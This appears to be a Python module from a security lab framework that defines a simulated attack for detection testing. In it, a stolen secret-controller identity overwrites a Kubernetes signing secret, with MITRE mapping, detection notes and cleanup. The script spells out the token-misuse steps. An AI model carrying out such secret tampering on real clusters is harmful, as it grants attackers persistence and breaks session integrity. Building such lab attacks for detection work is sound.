"""Attack: signing secret exchanged by the secret controller.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths, session

CARD = base.Card(
    id="secret-rewrite",
    title="Signing secret exchanged by the secret controller",
    technique=base.Technique(id="T1565.001", name="Stored Data Manipulation", tactic="Impact"),
    use_case=vocabulary.UseCase.PERSISTENCE,
    subtlety=base.Subtlety.SUBTLE,
    does=(
        "With the controller's token, address and client, reads a secret that the controller does not manage "
        "and writes a key of the attacker's choice into it."
    ),
    seen_by="The controller writes secrets all day, but never this one.",
    cleans_up="A copy that the director made before the attack is changed, and deleted afterwards.",
    victim=base.Part.SECRET_SYNC,
    reach=base.Reach.CLUSTER,
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.SECRET_SYNC, able=("PATCH", paths.core("secrets", "", "a")))
    thief = ctx.act_as(victim)
    namespace = ctx.rng.choice(ctx.namespaces())
    name = ctx.name("session-signing")
    secrets = paths.core("secrets", namespace)
    plain = {"key": "b2xk"}
    ctx.ensure(secrets, {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name}, "data": plain})
    yield thief.get(f"{secrets}/{name}", after_s=ctx.rng.uniform(60.0, 300.0))
    yield thief.patch(f"{secrets}/{name}", {"data": {"key": "bmV3"}}, content_type=session.MERGE_PATCH)
    yield thief.get(f"{secrets}/{name}")


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
